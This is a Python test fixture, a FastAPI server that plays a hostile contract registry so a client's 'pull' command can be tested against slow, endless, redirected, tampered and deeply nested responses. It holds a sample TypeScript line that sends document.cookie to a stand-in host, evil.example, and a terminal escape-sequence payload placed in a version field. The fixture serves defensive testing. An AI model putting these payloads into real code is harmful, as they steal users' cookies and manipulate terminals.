"""A hostile registry for ``pull`` (run by uvicorn in a child process): the first path segment
picks the misbehaviour, e.g. ``http://127.0.0.1:PORT/slow`` is the registry URL of a registry that
trickles its contract one byte at a time.

* ``ok``: a well-behaved registry serving one contract (``shop``, label ``main``).
* ``wrong``: ``openapi.json`` is another document than the digest the label names.
* ``slow``: ``openapi.json`` arrives one byte every 0.2 s (a slow-loris answer).
* ``stall``: the label answer's headers never come.
* ``huge``: ``openapi.json`` is an endless stream.
* ``redirect``: every request is redirected to the same path under ``ok`` on ``localhost``
  (another origin than ``127.0.0.1``); ``GET /seen`` lists the Authorization headers received.
* ``types``: stored ``types.ts`` with this generator's headers whose body is not its ETag's.
* ``tampered``: stored ``types.ts`` with this generator's headers and the ETag of its own bytes,
  which are not what the generator makes of the contract (a compromised registry).
* ``deep``: a contract nested 1,000 levels deep, under the digest of its own bytes.
* ``ansi``: a label whose ``info_version`` holds terminal escape sequences.
* ``liar``: the label points at v1 until ``POST /liar/next?diff=empty|garbage``, then at a v2 that
  removes an operation; its ``/diff`` answers "no changes", or malformed items (``/liar/reset``).
"""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator
from typing import Any

from fastapi import FastAPI, Request
from starlette.responses import JSONResponse, RedirectResponse, Response, StreamingResponse

from contractsync import __version__
from contractsync.spec.canonical import canonical_json
from contractsync.typescript.options import TypeScriptOptions, options_digest

DOC: dict[str, Any] = {"openapi": "3.1.0", "info": {"title": "Shop", "version": "1.0.0"},
                       "paths": {"/books": {"get": {"operationId": "list_books", "responses": {"200": {
                           "description": "ok", "content": {"application/json": {"schema": {"type": "string"}}}}}}}}}
CANON = canonical_json(DOC)
DIGEST = "sha256:" + hashlib.sha256(CANON).hexdigest()
OTHER = canonical_json({**DOC, "info": {"title": "Evil", "version": "6.6.6"}})
DEEP = CANON[:-2] + b', "x-deep": ' + b'{"a": ' * 1000 + b"1" + b"}" * 1000 + b"}\n"
DEEP_DIGEST = "sha256:" + hashlib.sha256(DEEP).hexdigest()

V2 = canonical_json({**DOC, "info": {"title": "Shop", "version": "2.0.0"}, "paths": {}})
V2_DIGEST = "sha256:" + hashlib.sha256(V2).hexdigest()

EVIL_TYPES = b"export const stolen = fetch('https://evil.example/' + document.cookie);\n"

app = FastAPI()
seen: list[dict[str, str | None]] = []
liar: dict[str, Any] = {"version": 1, "diff": "empty"}


@app.post("/liar/{step}")
async def liar_step(step: str, diff: str = "empty") -> JSONResponse:
    liar.update(version=2 if step == "next" else 1, diff=diff)
    return JSONResponse(liar)


@app.get("/seen")
async def get_seen() -> JSONResponse:
    return JSONResponse(seen)


@app.api_route("/{mode}/v1/contracts/shop/{rest:path}", methods=["GET", "HEAD"])
async def contract(mode: str, rest: str, request: Request) -> Response:
    seen.append({"mode": mode, "path": rest, "authorization": request.headers.get("authorization")})
    if mode == "redirect":
        port = request.url.port
        target = f"http://localhost:{port}/ok/v1/contracts/shop/{rest}"
        return RedirectResponse(target + (f"?{request.url.query}" if request.url.query else ""), status_code=307)
    label = {"contract": "shop", "label": "main", "version": 1, "digest": DIGEST, "info_version": "1.0.0",
             "policy": "block", "moved_at": "2026-01-01T00:00:00Z", "moved_by": "ci"}
    version = {"contract": "shop", "version": 1, "digest": DIGEST, "info_version": "1.0.0", "title": "Shop",
               "source": {"commit": None, "branch": None, "url": None}}
    if mode == "deep":
        if rest == "labels/main":
            return JSONResponse({**label, "digest": DEEP_DIGEST}, headers={"ETag": f'"{DEEP_DIGEST}"'})
        if rest == f"versions/{DEEP_DIGEST}":
            return JSONResponse({**version, "digest": DEEP_DIGEST})
        if rest == f"versions/{DEEP_DIGEST}/openapi.json":
            return Response(DEEP, media_type="application/json")
    if mode == "liar":
        if rest == "diff":
            garbage = [{"id": 5}, "x", {"level": "nope", "fingerprint": {"a": 1}},
                       {"announcement": {"reason": "no fingerprint"}}]
            return JSONResponse({"changes": garbage if liar["diff"] == "garbage" else []})
        if liar["version"] == 2:
            if rest == "labels/main":
                return JSONResponse({**label, "version": 2, "digest": V2_DIGEST, "info_version": "2.0.0"},
                                    headers={"ETag": f'"{V2_DIGEST}"'})
            if rest == f"versions/{V2_DIGEST}":
                return JSONResponse({**version, "version": 2, "digest": V2_DIGEST, "info_version": "2.0.0"})
            if rest == f"versions/{V2_DIGEST}/openapi.json":
                return Response(V2, media_type="application/json")
    if mode == "ansi":
        evil = "1.0\x1b]0;pwned\x07\x1b[2J\x1b[1A\r\x9b31m"
        label, version = {**label, "info_version": evil}, {**version, "info_version": evil}
    if rest == "labels/main":
        if mode == "stall":
            await asyncio.sleep(3600)
        return JSONResponse(label, headers={"ETag": f'"{DIGEST}"'})
    if rest == f"versions/{DIGEST}":
        return JSONResponse(version)
    if rest == f"versions/{DIGEST}/openapi.json":
        if mode == "wrong":
            return Response(OTHER, media_type="application/json")
        if mode == "slow":
            async def trickle() -> AsyncIterator[bytes]:
                for i in range(len(CANON)):
                    await asyncio.sleep(0.2)
                    yield CANON[i:i + 1]
            return StreamingResponse(trickle(), media_type="application/json")
        if mode == "huge":
            async def endless() -> AsyncIterator[bytes]:
                while not await request.is_disconnected():
                    yield b" " * 65536
            return StreamingResponse(endless(), media_type="application/json")
        return Response(CANON, media_type="application/json", headers={"ETag": f'"{DIGEST}"'})
    if rest.startswith(f"versions/{DIGEST}/types.ts") and mode in ("types", "tampered"):
        options = TypeScriptOptions()
        etag = "sha256:" + (hashlib.sha256(EVIL_TYPES).hexdigest() if mode == "tampered" else "0" * 64)
        return Response(EVIL_TYPES, media_type="application/typescript",
                        headers={"ETag": f'"{etag}"', "X-Contractsync-Generator-Version": __version__,
                                 "X-Contractsync-Options-Digest": options_digest(options)})
    return JSONResponse({"status": 404, "detail": "not here", "causes": [{"path": rest}]}, status_code=404,
                        media_type="application/problem+json")
